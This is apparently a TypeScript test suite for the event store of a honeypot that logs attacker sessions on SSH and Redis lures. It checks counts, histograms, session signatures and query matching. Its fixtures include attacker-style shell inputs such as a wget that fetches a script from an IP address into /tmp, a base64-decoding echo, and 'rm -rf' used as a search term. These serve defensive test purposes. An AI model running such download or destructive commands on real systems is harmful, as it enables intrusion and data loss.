import fc from 'fast-check'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { SundewEvent } from '../../src/events/schema.ts'
import { uuid7 } from '../../src/events/uuid7.ts'
import type { EventStore } from '../../src/store/contract.ts'
import { parseQuery } from '../../src/store/query/parse.ts'
import type { Query } from '../../src/store/query/query.ts'
import type { Opened } from './event-store.conformance.ts'
import { anyQuery } from './query/any-query.ts'
import { sampleEvent, sampleTurn } from './sample-events.ts'

const MINUTE = 60_000
const DAY = 86_400_000
/** A Monday at noon, UTC. */
const NOON = Date.UTC(2026, 2, 2, 12)

/** What holds for every engine of an event store that is asked for counts, facets and sessions by a query. */
export function factQueriesConformance(engine: string, open: () => Promise<Opened>): void {
  describe(`counts in ${engine}`, () => {
    let store: EventStore
    let dispose: () => Promise<void>

    beforeEach(async () => {
      ;({ store, dispose } = await open())
    })
    afterEach(() => dispose())

    async function keep(...events: SundewEvent[]): Promise<void> {
      for (const event of events) store.append(event)
      await store.flush()
    }

    const typed = (input: string, time: number, session = uuid7()): SundewEvent =>
      sampleTurn({ session, time, data: { kind: 'shell', input, output: '', source: 'static', durationMs: 1 } })

    async function top(query: Parameters<EventStore['facts']>[0]): Promise<string[]> {
      return (await store.facts(query)).map(({ value, count }) => `${value} ${count}`)
    }

    it('say what was typed most, and when first and last', async () => {
      await keep(typed('ls', NOON), typed('id', NOON), typed('ls', NOON + DAY))
      expect(await store.facts({ field: 'input' })).toEqual([
        { value: 'ls', count: 2, firstSeen: NOON, lastSeen: NOON + DAY },
        { value: 'id', count: 1, firstSeen: NOON, lastSeen: NOON },
      ])
    })

    it('are of the period, whole days and the minutes at its ends alike', async () => {
      const times = [NOON - 9 * DAY, NOON - 5 * DAY, NOON - 5 * DAY, NOON - DAY, NOON - MINUTE]
      await keep(...times.map((time) => typed('ls', time)))
      const since = NOON - 5 * DAY
      expect(await top({ field: 'input', period: { since, until: NOON } })).toEqual(['ls 4'])
      expect(await top({ field: 'input', period: { since, until: NOON - DAY } })).toEqual(['ls 2'])
      expect(await top({ field: 'input', period: { since: NOON - 10 * MINUTE, until: NOON } })).toEqual(['ls 1'])
      expect(await store.factTotals('input', { since, until: NOON })).toEqual({ values: 1, count: 4 })
    })

    it('equal a plain count over the events, whatever the period', async () => {
      const times = Array.from({ length: 200 }, (_, n) => NOON - ((n * 7_919) % 8_640) * 10 * MINUTE)
      await keep(...times.map((time, n) => typed(`command ${n % 7}`, time)))
      const bound = fc.integer({ min: 0, max: 9_000 }).map((n) => NOON - n * 10 * MINUTE)
      await fc.assert(
        fc.asyncProperty(bound, bound, async (a, b) => {
          const period = { since: Math.min(a, b), until: Math.max(a, b) + 10 * MINUTE }
          const inside = times.filter((time) => time >= period.since && time < period.until).length
          expect((await store.factTotals('input', period)).count).toBe(inside)
        }),
        { numRuns: 60 },
      )
    })

    it('tell what is new in a period', async () => {
      await keep(typed('ls', NOON - DAY), typed('ls', NOON), typed('curl x', NOON))
      expect(await top({ field: 'input', period: { since: NOON - MINUTE, until: NOON + MINUTE }, isNew: true })).toEqual(['curl x 1'])
    })

    it('find values by any part of them', async () => {
      await keep(typed('cd /tmp; wget http://198.51.100.9/x.sh', NOON), typed('echo 100% "sure"', NOON), typed('ls', NOON))
      const period = { since: NOON - DAY, until: NOON + DAY }
      expect(await top({ field: 'input', contains: 'WGET http' })).toEqual(['cd /tmp; wget http://198.51.100.9/x.sh 1'])
      expect(await top({ field: 'input', contains: 'cd*x.sh', period })).toHaveLength(1)
      expect(await top({ field: 'input', contains: '% "su' })).toEqual(['echo 100% "sure" 1'])
      expect(await top({ field: 'input', contains: 's', period })).toHaveLength(3)
      expect(await top({ field: 'input', contains: 'rm -rf' })).toEqual([])
    })

    it('keep long values whole', async () => {
      const long = `echo ${'A'.repeat(5_000)} | base64 -d`
      await keep(typed(long, NOON))
      expect((await store.facts({ field: 'input' }))[0]?.value).toBe(long)
    })

    it('count a visitor once a visit', async () => {
      const session = uuid7()
      await keep(
        sampleEvent({ session, time: NOON, type: 'session.open', data: {} }),
        sampleEvent({ session, time: NOON }),
        sampleEvent({ session, time: NOON }),
        sampleEvent({ session: undefined, time: NOON, srcIp: '192.0.2.9' }),
      )
      expect((await top({ field: 'src_ip' })).sort()).toEqual(['192.0.2.7 1', '192.0.2.9 1'])
      expect(await top({ field: 'lure' })).toEqual(['redis 4'])
    })

    it('make a histogram by lure, by minutes in short periods and wider in long ones', async () => {
      await keep(
        sampleEvent({ time: NOON }),
        sampleEvent({ time: NOON + 50 * MINUTE }),
        sampleTurn({ time: NOON + 50 * MINUTE }),
        sampleTurn({ time: NOON + 30 * DAY - 1 }),
      )
      const hour = await store.histogram('lure', { since: NOON, until: NOON + 60 * MINUTE }, 60)
      expect(hour).toHaveLength(60)
      expect(hour[0]).toEqual({ start: NOON, counts: { redis: 1 } })
      expect(hour[50]?.counts).toEqual({ redis: 1, ssh: 1 })
      const month = await store.histogram('lure', { since: NOON, until: NOON + 30 * DAY }, 30)
      expect(month).toHaveLength(30)
      expect(month[0]?.counts).toEqual({ redis: 2, ssh: 1 })
      expect(month[29]?.counts).toEqual({ ssh: 1 })
    })

    it('are forgotten with the events that they came from', async () => {
      const now = Date.now()
      await keep(typed('old', now - 12 * DAY), typed('new', now))
      await store.retain({ days: 10, bytes: 1e12 })
      expect(await top({ field: 'input' })).toEqual(['new 1'])
      expect(await top({ field: 'input', contains: 'old' })).toEqual([])
      expect(await store.factTotals('input', { since: now - 20 * DAY, until: now + DAY })).toEqual({ values: 1, count: 1 })
    })

    it('give sessions of the same inputs one signature, in their order', async () => {
      const [one, same, other] = [uuid7(), uuid7(), uuid7()]
      await keep(typed('id', NOON, one), typed('ls', NOON, one))
      await keep(typed('id', NOON, same))
      await keep(typed('ls', NOON, same))
      await keep(typed('ls', NOON, other), typed('id', NOON, other))
      const signature = async (id: string): Promise<string | undefined> => (await store.session(id))?.signature
      expect(await signature(one)).toMatch(/^[0-9a-f]{32}$/)
      expect(await signature(same)).toBe(await signature(one))
      expect(await signature(other)).not.toBe(await signature(one))
      expect((await store.session(one))?.lastInput).toBe('ls')
    })

    it('group sessions by signature, fingerprint and artifact', async () => {
      const ids = [uuid7(), uuid7(), uuid7()]
      const hassh = { type: 'fingerprint', data: { kind: 'hassh', value: 'a'.repeat(32) } }
      for (const [n, session] of ids.entries()) {
        await keep(
          sampleTurn({ ...hassh, session, time: NOON + n, srcIp: `192.0.2.${n}` }),
          typed('id', NOON + n, session),
          ...(n === 2 ? [sampleTurn({ session, time: NOON, type: 'artifact', data: { sha256: 'b'.repeat(64), how: 'x' } })] : []),
        )
      }
      const groups = await store.sessionGroups({ since: NOON - DAY, until: NOON + DAY })
      expect(groups.sort((a, b) => b.sessions - a.sessions)).toMatchObject([
        { lure: 'ssh', fingerprint: 'a'.repeat(32), artifact: '', sessions: 2, sources: 2, firstSeen: NOON, sample: ids[1] },
        { lure: 'ssh', fingerprint: 'a'.repeat(32), artifact: 'b'.repeat(64), sessions: 1, sample: ids[2] },
      ])
      expect(await store.sessionGroups({ since: NOON + DAY, until: NOON + 2 * DAY })).toEqual([])
    })
  })

  describe(`sessions by a query in ${engine}`, () => {
    let store: EventStore
    let dispose: () => Promise<void>
    const facts = new Map<string, SampleSession>()

    beforeAll(async () => {
      ;({ store, dispose } = await open())
      for (let n = 0; n < 48; n++) {
        const sample = sampleSession(n)
        const session = uuid7()
        facts.set(session, sample)
        for (const event of eventsOf(session, sample)) store.append(event)
      }
      await store.flush()
    })
    afterAll(() => dispose())

    const idsOf = async (text: string): Promise<string[]> =>
      (await store.sessions({ where: parseQuery(text)!, limit: 1000 })).map((s) => s.session)

    it('are those that the query means, whatever it is', async () => {
      await fc.assert(
        fc.asyncProperty(anyQuery, async (query) => {
          const meant = [...facts].filter(([, sample]) => means(query, sample)).map(([session]) => session)
          const found = (await store.sessions({ where: query, limit: 1000 })).map((s) => s.session)
          expect(found.sort()).toEqual(meant.sort())
          expect(await store.countSessions({ where: query })).toBe(meant.length)
        }),
        { numRuns: 300 },
      )
    })

    it('are found by network, by sub-technique and by the beginning of their id', async () => {
      expect(await idsOf('src_ip:192.0.2.0/24')).toHaveLength(48)
      expect(await idsOf('src_ip:198.51.0.0/16')).toEqual([])
      expect(await idsOf('attack:T1059')).toEqual(await idsOf('tag:"attack:T1059.004"'))
      expect((await idsOf('attack:T1059')).length).toBeGreaterThan(0)
      const [session] = facts.keys()
      expect(await idsOf(`session:${session}`)).toEqual([session])
    })

    it('are counted by facets', async () => {
      const facets = await store.facets({ where: parseQuery('lure:ssh')! }, ['lure', 'port', 'source', 'tag'])
      const ssh = [...facts.values()].filter((sample) => sample.lure === 'ssh')
      expect(facets.lure).toEqual([{ value: 'ssh', count: ssh.length }])
      expect(facets.port).toEqual([{ value: '22', count: ssh.length }])
      const withSource = (source: string): number => ssh.filter((sample) => sample.source === source && sample.input).length
      expect(facets.source).toEqual(expect.arrayContaining([{ value: 'llm', count: withSource('llm') }]))
      expect(facets.tag?.[0]?.count).toBeGreaterThan(0)
    })
  })
}

interface SampleSession {
  lure: string
  port: number
  srcIp: string
  username: string | undefined
  input: string | undefined
  source: string
  attack: string | undefined
}

function sampleSession(n: number): SampleSession {
  const pick = <T>(values: readonly T[], divisor: number): T => values[Math.floor(n / divisor) % values.length] as T
  const lure = pick(['ssh', 'redis'], 1)
  return {
    lure,
    port: lure === 'ssh' ? 22 : 6379,
    srcIp: pick(['192.0.2.1', '192.0.2.17'], 2),
    username: pick(['root', undefined, 'admin'], 3),
    input: pick(['uname -a', 'wget http://x/', undefined, 'echo 100%'], 4),
    source: pick(['llm', 'static'], 5),
    attack: pick(['T1105', undefined, 'T1059.004'], 7),
  }
}

function eventsOf(session: string, sample: SampleSession): SundewEvent[] {
  const visit = { session, lure: sample.lure, srcIp: sample.srcIp, dstPort: sample.port }
  const events = [
    sampleEvent({ ...visit, type: 'session.open', data: {}, ...(sample.attack ? { tags: [`attack:${sample.attack}`] } : {}) }),
  ]
  if (sample.username) {
    events.push(sampleEvent({ ...visit, type: 'login', data: { method: 'none', username: sample.username, accepted: true } }))
  }
  if (sample.input) {
    const data = { kind: 'shell', input: sample.input, output: '', source: sample.source, durationMs: 1 }
    events.push(sampleEvent({ ...visit, type: 'turn', data }))
  }
  return events
}

/** What a query means, told a second time and plainly. */
function means(query: Query, sample: SampleSession): boolean {
  switch (query.kind) {
    case 'and':
      return query.parts.every((part) => means(part, sample))
    case 'or':
      return query.parts.some((part) => means(part, sample))
    case 'not':
      return !means(query.part, sample)
    case 'text':
      return [sample.input].some((value) => value !== undefined && like(value, `*${query.text}*`))
    case 'compare': {
      const numbers: Record<string, number> = { turns: sample.input ? 1 : 0, logins: sample.username ? 1 : 0, port: sample.port }
      const value = numbers[query.field] as number
      const order = { '<': value < query.value, '<=': value <= query.value, '>': value > query.value, '>=': value >= query.value }
      return query.operator === '=' ? value === query.value : order[query.operator]
    }
    case 'exists':
      return valueIn(query.field, sample) !== undefined
    case 'is': {
      const value = valueIn(query.field, sample)
      if (value === undefined) return false
      if (query.field === 'input') return like(value, `*${query.value}*`)
      if (query.field === 'attack') return like(value, query.value) || like(value, `${query.value}.*`)
      return query.value.includes('*') ? like(value, query.value) : value === query.value
    }
  }
}

function valueIn(field: string, sample: SampleSession): string | undefined {
  const values: Record<string, string | undefined> = {
    lure: sample.lure,
    src_ip: sample.srcIp,
    username: sample.username,
    input: sample.input,
    source: sample.input && sample.source,
    attack: sample.attack,
  }
  return values[field]
}

function like(value: string, pattern: string): boolean {
  const escaped = pattern.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replaceAll('\\*', '[^]*')
  return new RegExp(`^${escaped}$`, 'i').test(value)
}
